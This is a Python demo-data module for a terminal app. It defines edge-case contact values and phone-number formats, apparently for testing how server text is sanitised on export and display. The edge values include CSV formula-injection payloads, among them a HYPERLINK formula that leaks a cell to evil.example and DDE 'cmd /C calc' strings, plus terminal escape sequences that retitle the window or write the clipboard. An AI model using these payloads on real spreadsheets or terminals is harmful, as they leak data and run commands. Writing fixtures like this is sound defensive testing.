"""Two streams the picker does not list: values aimed at the edges where server text leaves the
app, and phone numbers written the way people write them.
"""

from __future__ import annotations

from typing import Any

from kore_tui.demo.data.streams import DemoList, DemoStream, _iso

# Values aimed at the edges, where server text leaves the app: spreadsheet formulas (with the
# tricks that hide them: a leading TAB or CR), line breaks that could end a CSV row, terminal
# escapes (SGR, OSC 0 title, OSC 52 clipboard, BEL, a C1 CSI), bidi controls, DEL and a lone
# surrogate (sent as the JSON escape \ud800). Plain phone numbers are there to stay untouched.
EDGE_VALUES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    'one\rtwo,"three",four',
    "one\ntwo,three",
    "one\r\ntwo",
    "\x1b[31mred\x1b[0m \x1b]0;owned title\x07 \x1b]52;c;ZXZpbA==\x07 bell\x07",
    "\x9b2J C1 CSI",
    "\u202eevil-rtl \u2066isolate\u2069",
    "lone \ud800 surrogate",
    "DEL \x7f here",
    "+44 20 7946 0958",
    "(201) 555-0100",
)
# A stream the picker does not list (tests and `--stream st-demo-edges` reach it): every row
# carries EDGE_VALUES. Its directory has one contact per value; its list has 41 rows.
EDGE_STREAM = DemoStream(
    "st-demo-edges",
    "Edge cases (demo)",
    len(EDGE_VALUES),
    (DemoList("cl-demo-edges", "Edge \x1b]0;title\x07[red]cases[/] \u202elist", 41, "=cmd|' /C calc'!A0"),),
)


# Numbers as the platform stores them: the directory with a "+" in several layouts, the list
# without one (international digits), plus numbers that are no valid or no possible number.
# A stream the picker does not list, for lookups of numbers written the way people write them.
PHONE_NUMBERS = (
    ("US", "+1 201-555-0100", "12015550100"),
    ("IN", "+91 22 2333 4444", "912223334444"),
    ("GB", "+44 7400 123456", "447400123456"),
    ("DE", "+49 30 901820", "4930901820"),
    ("invalid", "+1 555 010 0199", "15550100199"),  # a possible number, but no real one
    ("impossible", "12345", "12345"),  # too short to be any number: found by its digits only
)
PHONES_STREAM = DemoStream(
    "st-demo-phones",
    "Phone formats (demo)",
    len(PHONE_NUMBERS),
    (DemoList("cl-demo-phones", "Phone formats", len(PHONE_NUMBERS), "International digits, no +"),),
)


def phones_directory_contact(index: int) -> dict[str, Any]:
    label, directory_form, _ = PHONE_NUMBERS[index]
    return {"id": f"phone-contact-{index}", "fullName": f"Caller {label}", "status": "ACTIVE",
            "cellPhone": {"phoneNumber": directory_form}, "createdAt": _iso(index * 86_400),
            "updatedAt": _iso(index * 86_400 + 60)}


def phones_list_contact(index: int) -> dict[str, Any]:
    return {"_id": f"phone-{index}", "phoneNumber": PHONE_NUMBERS[index][2], "createdAt": _iso(index * 60),
            "updatedAt": _iso(index * 60 + 1)}


def edge_directory_contact(index: int) -> dict[str, Any]:
    value = EDGE_VALUES[index % len(EDGE_VALUES)]
    return {
        "id": f"edge-contact-{index}",
        "firstName": value,
        "lastName": f"Edge {index}",
        "fullName": value,
        "cellPhone": {"extension": "+1", "phoneNumber": f"+1555{index:07d}", "countryCode": "+1"},
        "status": value,
        "createdAt": _iso(index * 3_600),
        "updatedAt": _iso(index * 3_600 + 60),
    }


def edge_list_contact(size: int, index: int) -> dict[str, Any]:
    value = EDGE_VALUES[index % len(EDGE_VALUES)]
    phone = value if index % 10 == 9 else f"1555{index % len(EDGE_VALUES):07d}"
    contact: dict[str, Any] = {
        "_id": f"edge-{index}",
        "createdAt": _iso(index * 60),
        "updatedAt": _iso(index * 60 + 1),
        "phoneNumber": phone,
        "note": value,
    }
    if index == 0:  # a field name is server text too: it becomes a CSV header
        contact["=SUM(A1:A9)"] = "header"
    return contact
